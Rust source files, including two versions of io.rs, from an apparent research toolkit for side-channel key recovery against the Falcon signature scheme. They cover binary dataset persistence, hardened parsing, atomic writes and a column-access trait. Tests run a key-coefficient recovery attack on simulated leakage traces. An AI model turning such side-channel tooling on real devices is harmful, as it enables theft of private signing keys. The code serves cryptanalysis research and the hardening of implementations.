        let mut rng = Prng::from_seed(b"io attack key");
        let kp = KeyPair::generate(LogN::new(3).unwrap(), &mut rng);
        let truth = kp.signing_key().f_fft()[0].to_bits();
        let chain = MeasurementChain {
            model: LeakageModel::hamming_weight(1.0, 0.5),
            lowpass: 0.0,
            scope: Scope { enabled: false, ..Default::default() },
            ..Default::default()
        };
        let mut dev = Device::new(kp.into_parts().0, chain, b"io attack");
        let mut msgs = Prng::from_seed(b"io attack msgs");
        let ds = Dataset::collect(&mut dev, &[0], 200, &mut msgs);
        let mut buf = Vec::new();
        write_dataset(&ds, &mut buf).unwrap();
        let back = read_dataset(&buf[..]).unwrap();
        let r = recover_coefficient(&back, 0, &AttackConfig::default());
        assert_eq!(r.bits, truth);
    }
}
