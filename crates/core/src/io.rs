//! Dataset persistence.
//!
//! Real side-channel campaigns acquire once and analyse many times; this
//! module stores a [`Dataset`] in a compact self-describing binary format
//! (magic, version, dimensions, then raw little-endian payloads) so
//! acquisitions can be replayed, shared, and attacked offline.

use crate::acquire::Dataset;
use std::io::{self, Read, Write};

const MAGIC: &[u8; 8] = b"FDNDSET\x01";

/// Serialises a dataset.
///
/// # Errors
///
/// Propagates I/O errors from the writer. The format is
/// platform-independent (fixed-width little-endian fields).
pub fn write_dataset<W: Write>(ds: &Dataset, mut w: W) -> io::Result<()> {
    w.write_all(MAGIC)?;
    w.write_all(&(ds.n() as u64).to_le_bytes())?;
    w.write_all(&(ds.targets().len() as u64).to_le_bytes())?;
    w.write_all(&(ds.traces() as u64).to_le_bytes())?;
    for &t in ds.targets() {
        w.write_all(&(t as u64).to_le_bytes())?;
    }
    for trace in 0..ds.traces() {
        for &t in ds.targets() {
            for occ in 0..2 {
                w.write_all(&ds.known(trace, t, occ).to_le_bytes())?;
            }
        }
    }
    for trace in 0..ds.traces() {
        for &t in ds.targets() {
            for v in ds.window(trace, t) {
                w.write_all(&v.to_le_bytes())?;
            }
        }
    }
    Ok(())
}

fn read_u64<R: Read>(r: &mut R) -> io::Result<u64> {
    let mut b = [0u8; 8];
    r.read_exact(&mut b)?;
    Ok(u64::from_le_bytes(b))
}

fn bad(msg: &str) -> io::Error {
    io::Error::new(io::ErrorKind::InvalidData, msg)
}

/// Deserialises a dataset written by [`write_dataset`].
///
/// # Errors
///
/// Returns `InvalidData` on a bad magic/version, inconsistent
/// dimensions, or truncation.
pub fn read_dataset<R: Read>(mut r: R) -> io::Result<Dataset> {
    let mut magic = [0u8; 8];
    r.read_exact(&mut magic)?;
    if &magic != MAGIC {
        return Err(bad("not a falcon-down dataset (bad magic)"));
    }
    let n = read_u64(&mut r)? as usize;
    if !n.is_power_of_two() || !(2..=1 << 10).contains(&n) {
        return Err(bad("invalid ring degree"));
    }
    let n_targets = read_u64(&mut r)? as usize;
    let traces = read_u64(&mut r)? as usize;
    if n_targets == 0 || n_targets > n || traces > 1 << 28 {
        return Err(bad("implausible dimensions"));
    }
    let mut targets = Vec::with_capacity(n_targets);
    for _ in 0..n_targets {
        let t = read_u64(&mut r)? as usize;
        if t >= n {
            return Err(bad("target index out of range"));
        }
        targets.push(t);
    }
    let mut knowns = Vec::with_capacity(traces * n_targets * 2);
    for _ in 0..traces * n_targets * 2 {
        knowns.push(read_u64(&mut r)?);
    }
    let points_len = traces * n_targets * crate::acquire::POINTS_PER_TARGET;
    let mut points = Vec::with_capacity(points_len);
    let mut buf = [0u8; 4];
    for _ in 0..points_len {
        r.read_exact(&mut buf)?;
        points.push(f32::from_le_bytes(buf));
    }
    Ok(Dataset::from_raw_parts(n, targets, traces, knowns, points))
}

#[cfg(test)]
mod tests {
    use super::*;
    use falcon_emsim::{Device, LeakageModel, MeasurementChain, Scope, StepKind};
    use falcon_sig::rng::Prng;
    use falcon_sig::{KeyPair, LogN};

    fn sample_dataset() -> Dataset {
        let mut rng = Prng::from_seed(b"io test key");
        let kp = KeyPair::generate(LogN::new(3).unwrap(), &mut rng);
        let chain = MeasurementChain {
            model: LeakageModel::hamming_weight(1.0, 1.0),
            lowpass: 0.0,
            scope: Scope { enabled: false, ..Default::default() },
        };
        let mut dev = Device::new(kp.into_parts().0, chain, b"io bench");
        let mut msgs = Prng::from_seed(b"io msgs");
        Dataset::collect(&mut dev, &[0, 2, 5], 12, &mut msgs)
    }

    #[test]
    fn roundtrip() {
        let ds = sample_dataset();
        let mut buf = Vec::new();
        write_dataset(&ds, &mut buf).unwrap();
        let back = read_dataset(&buf[..]).unwrap();
        assert_eq!(back.n(), ds.n());
        assert_eq!(back.targets(), ds.targets());
        assert_eq!(back.traces(), ds.traces());
        for trace in 0..ds.traces() {
            for &t in ds.targets() {
                for occ in 0..2 {
                    assert_eq!(back.known(trace, t, occ), ds.known(trace, t, occ));
                    for step in StepKind::ALL {
                        assert_eq!(
                            back.sample(trace, t, occ, step),
                            ds.sample(trace, t, occ, step)
                        );
                    }
                }
            }
        }
    }

    #[test]
    fn rejects_corruption() {
        let ds = sample_dataset();
        let mut buf = Vec::new();
        write_dataset(&ds, &mut buf).unwrap();
        // Bad magic.
        let mut bad_magic = buf.clone();
        bad_magic[0] ^= 0xFF;
        assert!(read_dataset(&bad_magic[..]).is_err());
        // Truncation.
        assert!(read_dataset(&buf[..buf.len() - 5]).is_err());
        // Absurd degree.
        let mut bad_n = buf.clone();
        bad_n[8..16].copy_from_slice(&u64::MAX.to_le_bytes());
        assert!(read_dataset(&bad_n[..]).is_err());
    }

    #[test]
    fn attack_works_on_reloaded_dataset() {
        use crate::attack::{recover_coefficient, AttackConfig};
        let mut rng = Prng::from_seed(b"io attack key");
        let kp = KeyPair::generate(LogN::new(3).unwrap(), &mut rng);
        let truth = kp.signing_key().f_fft()[0].to_bits();
        let chain = MeasurementChain {
            model: LeakageModel::hamming_weight(1.0, 0.5),
            lowpass: 0.0,
            scope: Scope { enabled: false, ..Default::default() },
        };
        let mut dev = Device::new(kp.into_parts().0, chain, b"io attack");
        let mut msgs = Prng::from_seed(b"io attack msgs");
        let ds = Dataset::collect(&mut dev, &[0], 200, &mut msgs);
        let mut buf = Vec::new();
        write_dataset(&ds, &mut buf).unwrap();
        let back = read_dataset(&buf[..]).unwrap();
        let r = recover_coefficient(&back, 0, &AttackConfig::default());
        assert_eq!(r.bits, truth);
    }
}
