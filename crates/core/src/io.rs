//! Dataset persistence.
//!
//! Real side-channel campaigns acquire once and analyse many times; this
//! module stores a [`Dataset`] in a compact self-describing binary format
//! (magic, version, dimensions, then raw little-endian payloads) so
//! acquisitions can be replayed, shared, and attacked offline.
//!
//! # Versions
//!
//! * **v1** (`FDNDSET\x01`): row-major payload — knowns keyed
//!   `[trace][target][occ]`, samples `[trace][target][occ·14+step]`.
//!   Still readable; transposed into the columnar layout on load.
//! * **v2** (`FDNDSET\x02`, current): columnar payload — knowns keyed
//!   `[target][occ][trace]`, samples `[target][occ][step][trace]`, a
//!   byte-for-byte dump of the in-memory [`Dataset`] buffers. Writing
//!   and loading are bulk copies with no transpose.
//!
//! Unknown versions are rejected with
//! [`Error::UnsupportedVersion`](crate::error::Error::UnsupportedVersion).

use crate::acquire::{Dataset, POINTS_PER_TARGET};
use crate::error::{Error, Result};
use std::io::{Read, Write};
use std::path::Path;

const MAGIC_PREFIX: &[u8; 7] = b"FDNDSET";
const VERSION_V1: u8 = 1;
/// Current (columnar) dataset format version.
pub const VERSION_V2: u8 = 2;

/// The parsed header of a serialised dataset: everything up to (and
/// including) the column directory, with **no payload read**. Besides
/// the dimensions, it knows the byte geometry of the v2 columnar
/// payload, so out-of-core readers can address any target's contiguous
/// known/sample regions directly.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DatasetHeader {
    /// On-disk format version (1 row-major, 2 columnar).
    pub version: u8,
    /// Ring degree.
    pub n: usize,
    /// Targeted flat `FFT(f)` indices, in file order.
    pub targets: Vec<usize>,
    /// Traces per column.
    pub traces: usize,
}

impl DatasetHeader {
    /// Bytes occupied by the header itself (magic through the target
    /// directory); the payload starts at this offset.
    pub fn header_len(&self) -> u64 {
        8 + 3 * 8 + self.targets.len() as u64 * 8
    }

    /// Total u64 words in the known-operand payload.
    pub fn knowns_len(&self) -> usize {
        self.targets.len() * 2 * self.traces
    }

    /// Total f32 samples in the sample payload.
    pub fn points_len(&self) -> usize {
        self.targets.len() * POINTS_PER_TARGET * self.traces
    }

    /// Byte offset where the sample payload starts.
    pub fn points_offset(&self) -> u64 {
        self.header_len() + self.knowns_len() as u64 * 8
    }

    /// Total byte length of a well-formed file with this header.
    pub fn file_len(&self) -> u64 {
        self.points_offset() + self.points_len() as u64 * 4
    }

    /// Byte range `(offset, len)` of target slot `ti`'s known-operand
    /// block (`[occ][trace]`, `2·traces` u64 words). **v2 only** — the
    /// v1 row-major payload interleaves targets per trace and has no
    /// contiguous per-target region.
    pub fn target_knowns_range(&self, ti: usize) -> (u64, u64) {
        debug_assert!(self.version == VERSION_V2 && ti < self.targets.len());
        let len = 2 * self.traces as u64 * 8;
        (self.header_len() + ti as u64 * len, len)
    }

    /// Byte range `(offset, len)` of target slot `ti`'s sample block
    /// (`[occ][step][trace]`, `28·traces` f32 samples). **v2 only.**
    pub fn target_points_range(&self, ti: usize) -> (u64, u64) {
        debug_assert!(self.version == VERSION_V2 && ti < self.targets.len());
        let len = POINTS_PER_TARGET as u64 * self.traces as u64 * 4;
        (self.points_offset() + ti as u64 * len, len)
    }

    /// Position of `target` in the file's target directory.
    pub fn target_slot(&self, target: usize) -> Option<usize> {
        self.targets.iter().position(|&t| t == target)
    }
}

/// Parses a dataset header, stopping after the column (target)
/// directory: nothing of the payload is read or buffered, so probing
/// the dimensions of a multi-gigabyte archive costs a few hundred
/// bytes of I/O.
///
/// # Errors
///
/// Returns [`Error::InvalidData`] on a bad magic or implausible or
/// overflowing dimensions, [`Error::UnsupportedVersion`] on a version
/// this build does not understand, and [`Error::Io`] on truncation.
pub fn read_dataset_header<R: Read>(r: &mut R) -> Result<DatasetHeader> {
    let mut magic = [0u8; 8];
    r.read_exact(&mut magic)?;
    if &magic[..7] != MAGIC_PREFIX {
        return Err(bad("not a falcon-down dataset (bad magic)"));
    }
    let version = magic[7];
    if version != VERSION_V1 && version != VERSION_V2 {
        return Err(Error::UnsupportedVersion {
            found: u32::from(version),
            supported: u32::from(VERSION_V2),
        });
    }
    let n = checked_count(read_u64(r)?, "ring degree")?;
    if !n.is_power_of_two() || !(2..=1 << 10).contains(&n) {
        return Err(bad("invalid ring degree"));
    }
    let n_targets = checked_count(read_u64(r)?, "target count")?;
    let traces = checked_count(read_u64(r)?, "trace count")?;
    if n_targets == 0 || n_targets > n || traces > 1 << 28 {
        return Err(bad("implausible dimensions"));
    }
    let targets_u = read_u64s(r, n_targets)?;
    let mut targets = Vec::with_capacity(n_targets);
    for t in targets_u {
        let t = checked_count(t, "target index")?;
        if t >= n {
            return Err(bad("target index out of range"));
        }
        targets.push(t);
    }
    // The length helpers multiply n_targets (<= 1024) by traces
    // (<= 2^28) by <= 28: comfortably inside u64, but re-check the
    // usize-facing products on 32-bit hosts.
    traces
        .checked_mul(n_targets)
        .and_then(|v| v.checked_mul(2))
        .ok_or_else(|| bad("known-operand count overflows"))?;
    traces
        .checked_mul(n_targets)
        .and_then(|v| v.checked_mul(POINTS_PER_TARGET))
        .ok_or_else(|| bad("sample count overflows"))?;
    Ok(DatasetHeader { version, n, targets, traces })
}

/// Serialises a dataset in the current (v2, columnar) format.
///
/// # Errors
///
/// Propagates I/O errors from the writer. The format is
/// platform-independent (fixed-width little-endian fields).
pub fn write_dataset<W: Write>(ds: &Dataset, mut w: W) -> Result<()> {
    w.write_all(MAGIC_PREFIX)?;
    w.write_all(&[VERSION_V2])?;
    w.write_all(&(ds.n() as u64).to_le_bytes())?;
    w.write_all(&(ds.targets().len() as u64).to_le_bytes())?;
    w.write_all(&(ds.traces() as u64).to_le_bytes())?;
    for &t in ds.targets() {
        w.write_all(&(t as u64).to_le_bytes())?;
    }
    write_u64s(&mut w, ds.knowns_columnar())?;
    write_f32s(&mut w, ds.points_columnar())?;
    Ok(())
}

/// Writes a u64 slice as little-endian words through a bounded stack
/// buffer (one syscall-sized write per 256 words instead of one per
/// word).
fn write_u64s<W: Write>(w: &mut W, vals: &[u64]) -> Result<()> {
    let mut buf = [0u8; 8 * 256];
    for chunk in vals.chunks(256) {
        for (dst, &v) in buf.chunks_exact_mut(8).zip(chunk) {
            dst.copy_from_slice(&v.to_le_bytes());
        }
        w.write_all(&buf[..8 * chunk.len()])?;
    }
    Ok(())
}

/// Writes an f32 slice as little-endian samples with the same bounded
/// buffering as [`write_u64s`].
fn write_f32s<W: Write>(w: &mut W, vals: &[f32]) -> Result<()> {
    let mut buf = [0u8; 4 * 512];
    for chunk in vals.chunks(512) {
        for (dst, &v) in buf.chunks_exact_mut(4).zip(chunk) {
            dst.copy_from_slice(&v.to_le_bytes());
        }
        w.write_all(&buf[..4 * chunk.len()])?;
    }
    Ok(())
}

/// Suffix appended to the destination file name for the temporary
/// sibling used by [`atomic_write`] (`job.spec` → `job.spec.tmp`, so
/// sibling records of one job never collide on their temp files);
/// recovery scans ([`crate::orch::JobStore`]) delete any leftover
/// `*.tmp` as a torn write from a crashed process.
pub const TMP_SUFFIX: &str = ".tmp";

fn persist_err<'a>(op: &'static str, path: &'a Path) -> impl FnOnce(std::io::Error) -> Error + 'a {
    move |source| Error::Persist { op, path: path.display().to_string(), source }
}

/// Fsyncs a directory so a preceding rename inside it is durable.
///
/// POSIX only promises that `rename` survives a crash once the parent
/// directory's metadata has itself been synced; without this step an
/// "atomic" checkpoint can vanish wholesale on power loss even though
/// the file's own contents were fsynced. On non-Unix platforms opening
/// a directory for sync is not portable, so this is a no-op there (the
/// rename-over guarantee still holds; only the power-loss window
/// differs).
///
/// # Errors
///
/// Returns [`Error::Persist`] with `op = "sync-dir"`.
pub fn fsync_dir(dir: &Path) -> Result<()> {
    #[cfg(unix)]
    {
        let d = std::fs::File::open(dir).map_err(persist_err("sync-dir", dir))?;
        d.sync_all().map_err(persist_err("sync-dir", dir))?;
    }
    #[cfg(not(unix))]
    let _ = dir;
    Ok(())
}

/// Writes a file atomically *and durably*: the payload goes to a
/// `<path>.tmp` sibling, is fsynced, renamed over `path`, and the
/// parent directory is fsynced so the rename itself survives a crash.
/// A kill at any instant leaves either the previous file or the new
/// one, never a torn or vanishing file.
///
/// `fill` receives a buffered writer for the temporary file.
///
/// # Errors
///
/// Returns [`Error::Persist`] naming the failed step, or the error
/// propagated from `fill`.
pub fn atomic_write<F>(path: &Path, fill: F) -> Result<()>
where
    F: FnOnce(&mut dyn Write) -> Result<()>,
{
    let mut tmp_name = path.file_name().map(|f| f.to_os_string()).unwrap_or_default();
    tmp_name.push(TMP_SUFFIX);
    let tmp = path.with_file_name(tmp_name);
    {
        let f = std::fs::File::create(&tmp).map_err(persist_err("create", &tmp))?;
        let mut w = std::io::BufWriter::new(f);
        fill(&mut w)?;
        let f = w.into_inner().map_err(|e| Error::Persist {
            op: "write",
            path: tmp.display().to_string(),
            source: e.into_error(),
        })?;
        f.sync_all().map_err(persist_err("sync", &tmp))?;
    }
    std::fs::rename(&tmp, path).map_err(persist_err("rename", path))?;
    if let Some(dir) = path.parent().filter(|d| !d.as_os_str().is_empty()) {
        fsync_dir(dir)?;
    }
    Ok(())
}

pub(crate) fn read_u64<R: Read>(r: &mut R) -> Result<u64> {
    let mut b = [0u8; 8];
    r.read_exact(&mut b)?;
    Ok(u64::from_le_bytes(b))
}

pub(crate) fn bad(msg: &str) -> Error {
    Error::invalid(msg)
}

/// Converts a serialized u64 count into a usize, rejecting values that do
/// not fit the platform.
pub(crate) fn checked_count(v: u64, what: &str) -> Result<usize> {
    usize::try_from(v).map_err(|_| Error::invalid(format!("{what} does not fit this platform")))
}

/// Reads `count` little-endian u64 words without trusting `count` for an
/// upfront allocation: the vector grows in bounded chunks, so a hostile
/// header over a short stream fails with a read error after a small,
/// bounded allocation instead of aborting on OOM.
pub(crate) fn read_u64s<R: Read>(r: &mut R, count: usize) -> Result<Vec<u64>> {
    const CHUNK: usize = 8 << 10;
    let mut out = Vec::with_capacity(count.min(CHUNK));
    let mut buf = [0u8; 8 * 256];
    let mut left = count;
    while left > 0 {
        let batch = left.min(256);
        let bytes = &mut buf[..8 * batch];
        r.read_exact(bytes)?;
        out.extend(
            bytes.chunks_exact(8).map(|c| u64::from_le_bytes(c.try_into().expect("8 bytes"))),
        );
        left -= batch;
    }
    Ok(out)
}

/// Reads `count` little-endian f32 samples with the same bounded-growth
/// strategy as [`read_u64s`].
pub(crate) fn read_f32s<R: Read>(r: &mut R, count: usize) -> Result<Vec<f32>> {
    const CHUNK: usize = 16 << 10;
    let mut out = Vec::with_capacity(count.min(CHUNK));
    let mut buf = [0u8; 4 * 512];
    let mut left = count;
    while left > 0 {
        let batch = left.min(512);
        let bytes = &mut buf[..4 * batch];
        r.read_exact(bytes)?;
        out.extend(
            bytes.chunks_exact(4).map(|c| f32::from_le_bytes(c.try_into().expect("4 bytes"))),
        );
        left -= batch;
    }
    Ok(out)
}

/// Deserialises a dataset written by [`write_dataset`] — the current v2
/// format or the legacy v1 row-major format (transposed on load).
///
/// # Errors
///
/// Returns [`Error::InvalidData`] on a bad magic or implausible or
/// overflowing dimensions, [`Error::UnsupportedVersion`] on a version
/// this build does not understand, and [`Error::Io`] on truncation.
/// Dimension products are computed with checked arithmetic and the
/// payload is read incrementally, so a corrupt or hostile header cannot
/// trigger an abort-on-OOM or a capacity overflow.
pub fn read_dataset<R: Read>(mut r: R) -> Result<Dataset> {
    let hdr = read_dataset_header(&mut r)?;
    let knowns = read_u64s(&mut r, hdr.knowns_len())?;
    let points = read_f32s(&mut r, hdr.points_len())?;
    let DatasetHeader { version, n, targets, traces } = hdr;
    if version == VERSION_V1 {
        Dataset::try_from_raw_parts(n, targets, traces, knowns, points)
    } else {
        Dataset::try_from_columnar_parts(n, targets, traces, knowns, points)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use falcon_emsim::{Device, LeakageModel, MeasurementChain, Scope, StepKind};
    use falcon_sig::rng::Prng;
    use falcon_sig::{KeyPair, LogN};

    fn sample_dataset() -> Dataset {
        let mut rng = Prng::from_seed(b"io test key");
        let kp = KeyPair::generate(LogN::new(3).unwrap(), &mut rng);
        let chain = MeasurementChain {
            model: LeakageModel::hamming_weight(1.0, 1.0),
            lowpass: 0.0,
            scope: Scope { enabled: false, ..Default::default() },
            ..Default::default()
        };
        let mut dev = Device::new(kp.into_parts().0, chain, b"io bench");
        let mut msgs = Prng::from_seed(b"io msgs");
        Dataset::collect(&mut dev, &[0, 2, 5], 12, &mut msgs)
    }

    /// Writes `ds` in the legacy v1 row-major format, byte-for-byte what
    /// the pre-columnar builds produced. Kept test-local: the library
    /// only *reads* v1.
    fn write_dataset_v1(ds: &Dataset, w: &mut Vec<u8>) {
        w.extend_from_slice(MAGIC_PREFIX);
        w.push(VERSION_V1);
        w.extend_from_slice(&(ds.n() as u64).to_le_bytes());
        w.extend_from_slice(&(ds.targets().len() as u64).to_le_bytes());
        w.extend_from_slice(&(ds.traces() as u64).to_le_bytes());
        for &t in ds.targets() {
            w.extend_from_slice(&(t as u64).to_le_bytes());
        }
        for trace in 0..ds.traces() {
            for &t in ds.targets() {
                for occ in 0..2 {
                    w.extend_from_slice(&ds.known(trace, t, occ).to_le_bytes());
                }
            }
        }
        for trace in 0..ds.traces() {
            for &t in ds.targets() {
                for v in ds.window(trace, t) {
                    w.extend_from_slice(&v.to_le_bytes());
                }
            }
        }
    }

    fn assert_datasets_equal(a: &Dataset, b: &Dataset) {
        assert_eq!(a.n(), b.n());
        assert_eq!(a.targets(), b.targets());
        assert_eq!(a.traces(), b.traces());
        for trace in 0..a.traces() {
            for &t in a.targets() {
                for occ in 0..2 {
                    assert_eq!(a.known(trace, t, occ), b.known(trace, t, occ));
                    for step in StepKind::ALL {
                        assert_eq!(a.sample(trace, t, occ, step), b.sample(trace, t, occ, step));
                    }
                }
            }
        }
    }

    #[test]
    fn roundtrip_v2() {
        let ds = sample_dataset();
        let mut buf = Vec::new();
        write_dataset(&ds, &mut buf).unwrap();
        assert_eq!(&buf[..8], b"FDNDSET\x02");
        let back = read_dataset(&buf[..]).unwrap();
        assert_datasets_equal(&back, &ds);
        // v2 is a byte dump of the columnar buffers: no transpose on load.
        assert_eq!(back.knowns_columnar(), ds.knowns_columnar());
        assert_eq!(back.points_columnar(), ds.points_columnar());
    }

    #[test]
    fn header_knows_the_byte_geometry() {
        let ds = sample_dataset();
        let mut buf = Vec::new();
        write_dataset(&ds, &mut buf).unwrap();
        let hdr = read_dataset_header(&mut &buf[..]).unwrap();
        assert_eq!(hdr.version, VERSION_V2);
        assert_eq!(hdr.n, ds.n());
        assert_eq!(hdr.targets, ds.targets());
        assert_eq!(hdr.traces, ds.traces());
        assert_eq!(hdr.file_len(), buf.len() as u64);
        // The per-target ranges address exactly the columnar buffers.
        for (ti, &t) in ds.targets().iter().enumerate() {
            assert_eq!(hdr.target_slot(t), Some(ti));
            let (off, len) = hdr.target_knowns_range(ti);
            let bytes = &buf[off as usize..(off + len) as usize];
            let words: Vec<u64> =
                bytes.chunks_exact(8).map(|c| u64::from_le_bytes(c.try_into().unwrap())).collect();
            let base = ti * 2 * ds.traces();
            assert_eq!(words, ds.knowns_columnar()[base..base + 2 * ds.traces()]);
            let (off, len) = hdr.target_points_range(ti);
            let bytes = &buf[off as usize..(off + len) as usize];
            let samples: Vec<f32> =
                bytes.chunks_exact(4).map(|c| f32::from_le_bytes(c.try_into().unwrap())).collect();
            let base = ti * POINTS_PER_TARGET * ds.traces();
            assert_eq!(samples, ds.points_columnar()[base..base + POINTS_PER_TARGET * ds.traces()]);
        }
        assert_eq!(hdr.target_slot(ds.n()), None);
        // Header parsing must not consume the payload.
        let mut r = &buf[..];
        read_dataset_header(&mut r).unwrap();
        assert_eq!(r.len() as u64, buf.len() as u64 - hdr.header_len());
    }

    #[test]
    fn reads_legacy_v1_row_major() {
        let ds = sample_dataset();
        let mut v1 = Vec::new();
        write_dataset_v1(&ds, &mut v1);
        let back = read_dataset(&v1[..]).unwrap();
        assert_datasets_equal(&back, &ds);
    }

    #[test]
    fn unknown_version_is_a_typed_error() {
        let ds = sample_dataset();
        let mut buf = Vec::new();
        write_dataset(&ds, &mut buf).unwrap();
        buf[7] = 9;
        match read_dataset(&buf[..]) {
            Err(Error::UnsupportedVersion { found: 9, supported: 2 }) => {}
            other => panic!("expected UnsupportedVersion, got {other:?}"),
        }
        // A non-FDNDSET stream is a magic failure, not a version failure.
        buf[0] ^= 0xFF;
        assert!(matches!(read_dataset(&buf[..]), Err(Error::InvalidData(_))));
    }

    #[test]
    fn truncation_at_every_byte_fails_cleanly() {
        let mut rng = Prng::from_seed(b"io trunc key");
        let kp = KeyPair::generate(LogN::new(1).unwrap(), &mut rng);
        let chain = MeasurementChain {
            model: LeakageModel::hamming_weight(1.0, 1.0),
            lowpass: 0.0,
            scope: Scope { enabled: false, ..Default::default() },
            ..Default::default()
        };
        let mut dev = Device::new(kp.into_parts().0, chain, b"io trunc");
        let mut msgs = Prng::from_seed(b"io trunc msgs");
        let ds = Dataset::collect(&mut dev, &[0, 1], 3, &mut msgs);
        let mut buf = Vec::new();
        write_dataset(&ds, &mut buf).unwrap();
        for cut in 0..buf.len() {
            let r = read_dataset(&buf[..cut]);
            assert!(r.is_err(), "prefix of {cut}/{} bytes must not parse", buf.len());
        }
        assert!(read_dataset(&buf[..]).is_ok());
    }

    #[test]
    fn rejects_corruption() {
        let ds = sample_dataset();
        let mut buf = Vec::new();
        write_dataset(&ds, &mut buf).unwrap();
        // Bad magic.
        let mut bad_magic = buf.clone();
        bad_magic[0] ^= 0xFF;
        assert!(read_dataset(&bad_magic[..]).is_err());
        // Truncation.
        assert!(read_dataset(&buf[..buf.len() - 5]).is_err());
        // Absurd degree.
        let mut bad_n = buf.clone();
        bad_n[8..16].copy_from_slice(&u64::MAX.to_le_bytes());
        assert!(read_dataset(&bad_n[..]).is_err());
    }

    #[test]
    fn attack_works_on_reloaded_dataset() {
        use crate::attack::{recover_coefficient, AttackConfig};
        let mut rng = Prng::from_seed(b"io attack key");
        let kp = KeyPair::generate(LogN::new(3).unwrap(), &mut rng);
        let truth = kp.signing_key().f_fft()[0].to_bits();
        let chain = MeasurementChain {
            model: LeakageModel::hamming_weight(1.0, 0.5),
            lowpass: 0.0,
            scope: Scope { enabled: false, ..Default::default() },
            ..Default::default()
        };
        let mut dev = Device::new(kp.into_parts().0, chain, b"io attack");
        let mut msgs = Prng::from_seed(b"io attack msgs");
        let ds = Dataset::collect(&mut dev, &[0], 200, &mut msgs);
        let mut buf = Vec::new();
        write_dataset(&ds, &mut buf).unwrap();
        let back = read_dataset(&buf[..]).unwrap();
        let r = recover_coefficient(&back, 0, &AttackConfig::default());
        assert_eq!(r.bits, truth);
    }
}
