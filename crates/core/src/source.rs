//! The column-lending contract of the data plane.
//!
//! Every analysis stage in this crate — the CPA kernels, the
//! extend-and-prune attack, campaign convergence, the NTT attack —
//! consumes traces **column-wise**: one known-operand column and a
//! handful of sample columns per target, each `traces` long. The
//! resident [`Dataset`] happens to hold those columns contiguously in
//! RAM, but nothing downstream actually needs the whole dataset at
//! once; it needs *one target's columns at a time*.
//!
//! [`ColumnSource`] names that contract. A source hands out
//! [`TargetBlock`]s — the complete column set of a single target — and
//! implementations are free to lend borrowed slices (the resident
//! [`Dataset`]) or to materialise the block from disk on demand (the
//! out-of-core [`StreamedDataset`](crate::stream::StreamedDataset)).
//! Because the attack layers consume whole columns in a fixed order,
//! any source that returns byte-identical blocks yields bit-identical
//! results — the determinism suite pins exactly this.

use crate::acquire::{Dataset, POINTS_PER_TARGET};
use crate::error::{Error, Result};
use falcon_emsim::StepKind;
use std::borrow::Cow;

/// The complete column set of one target: both occurrences' known
/// operands (`[occ][trace]`, `2·traces` words) and all sample columns
/// (`[occ][step][trace]`, `28·traces` samples) — the exact columnar
/// layout of the v2 on-disk format and the in-memory [`Dataset`].
///
/// Borrowing sources lend `Cow::Borrowed` slices with zero copies;
/// streaming sources return `Cow::Owned` buffers decoded from the
/// prefetch ring.
#[derive(Debug, Clone)]
pub struct TargetBlock<'a> {
    target: usize,
    traces: usize,
    knowns: Cow<'a, [u64]>,
    points: Cow<'a, [f32]>,
}

impl<'a> TargetBlock<'a> {
    /// Assembles a block, validating the column lengths against
    /// `traces`.
    ///
    /// # Errors
    ///
    /// Returns [`Error::ShapeMismatch`] when either buffer disagrees
    /// with the `[occ][(step)][trace]` geometry.
    pub fn new(
        target: usize,
        traces: usize,
        knowns: Cow<'a, [u64]>,
        points: Cow<'a, [f32]>,
    ) -> Result<Self> {
        if knowns.len() != 2 * traces {
            return Err(Error::ShapeMismatch {
                what: "target block knowns",
                expected: 2 * traces,
                got: knowns.len(),
            });
        }
        if points.len() != POINTS_PER_TARGET * traces {
            return Err(Error::ShapeMismatch {
                what: "target block points",
                expected: POINTS_PER_TARGET * traces,
                got: points.len(),
            });
        }
        Ok(TargetBlock { target, traces, knowns, points })
    }

    /// The flat `FFT(f)` index this block belongs to.
    pub fn target(&self) -> usize {
        self.target
    }

    /// Traces per column.
    pub fn traces(&self) -> usize {
        self.traces
    }

    /// Known-operand column for `occ` (0 or 1).
    pub fn known_column(&self, occ: usize) -> &[u64] {
        debug_assert!(occ < 2);
        &self.knowns[occ * self.traces..(occ + 1) * self.traces]
    }

    /// Sample column for one pipeline step of `occ`.
    pub fn sample_column(&self, occ: usize, step: StepKind) -> &[f32] {
        debug_assert!(occ < 2);
        let base = (occ * StepKind::COUNT + step as usize) * self.traces;
        &self.points[base..base + self.traces]
    }

    /// Known operand of a single trace.
    pub fn known(&self, trace: usize, occ: usize) -> u64 {
        self.known_column(occ)[trace]
    }

    /// Leakage sample of a single trace at one step.
    pub fn sample(&self, trace: usize, occ: usize, step: StepKind) -> f32 {
        self.sample_column(occ, step)[trace]
    }

    /// Detaches the block from its source, cloning borrowed columns.
    pub fn into_owned(self) -> TargetBlock<'static> {
        TargetBlock {
            target: self.target,
            traces: self.traces,
            knowns: Cow::Owned(self.knowns.into_owned()),
            points: Cow::Owned(self.points.into_owned()),
        }
    }

    /// Materialises the block as a single-target resident [`Dataset`]
    /// (ring degree `n`), e.g. to hand a streamed target to code that
    /// still wants the full dataset API.
    ///
    /// # Errors
    ///
    /// Returns [`Error::TargetOutOfRange`] when the block's target
    /// does not fit the ring degree.
    pub fn to_dataset(&self, n: usize) -> Result<Dataset> {
        Dataset::try_from_columnar_parts(
            n,
            vec![self.target],
            self.traces,
            self.knowns.to_vec(),
            self.points.to_vec(),
        )
    }
}

/// A provider of per-target trace columns.
///
/// The contract every consumer relies on:
///
/// * `targets()` is the fixed acquisition order; `target_block` only
///   answers for members of that list.
/// * All blocks have exactly `traces()` traces, in a stable trace
///   order shared across targets (trace `i` of one block and trace
///   `i` of another came from the same signature).
/// * Repeated `target_block` calls for the same target return
///   byte-identical columns — sources are immutable snapshots, so
///   every analysis over them is deterministic.
pub trait ColumnSource {
    /// Ring degree of the attacked key.
    fn n(&self) -> usize;

    /// Targeted flat `FFT(f)` indices, in acquisition order.
    fn targets(&self) -> &[usize];

    /// Traces per column.
    fn traces(&self) -> usize;

    /// Lends the complete column set of `target`.
    ///
    /// # Errors
    ///
    /// Returns [`Error::TargetNotInDataset`] for a target outside
    /// [`ColumnSource::targets`], and I/O or format errors from
    /// streaming sources.
    fn target_block(&self, target: usize) -> Result<TargetBlock<'_>>;
}

impl ColumnSource for Dataset {
    fn n(&self) -> usize {
        Dataset::n(self)
    }

    fn targets(&self) -> &[usize] {
        Dataset::targets(self)
    }

    fn traces(&self) -> usize {
        Dataset::traces(self)
    }

